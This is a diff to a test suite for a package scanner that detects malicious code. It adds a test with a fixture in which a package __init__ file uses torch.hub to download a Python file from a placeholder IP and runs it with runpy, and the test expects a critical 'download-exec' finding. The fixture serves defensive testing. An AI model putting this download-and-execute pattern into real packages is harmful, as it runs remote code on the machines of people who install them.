@@ -511,6 +511,20 @@ def test_download_exec_fires_for_a_download_saved_then_loaded(
     assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
 
 
+def test_download_exec_fires_for_a_torch_hub_download_run_as_a_script(
+    tmp_path: Path, scanner: Scanner
+) -> None:
+    # a hubconf.py entry: torch.hub saves what the URL serves, runpy runs it
+    module = (
+        "import os, runpy, tempfile, torch.hub\n"
+        "target = os.path.join(tempfile.gettempdir(), '_hub.py')\n"
+        "torch.hub.download_url_to_file('http://192.0.2.144/h.py', target)\n"
+        "runpy.run_path(target)\n"
+    )
+    result = scan(write_sdist(tmp_path, {INIT: module}), scanner)
+    assert_fires(result, "download-exec", Verdict.MALICIOUS, severity=Severity.CRITICAL, file_endswith=INIT)
+
+
 def test_a_library_built_then_loaded_when_called_is_no_download_exec(
     tmp_path: Path, scanner: Scanner
 ) -> None:
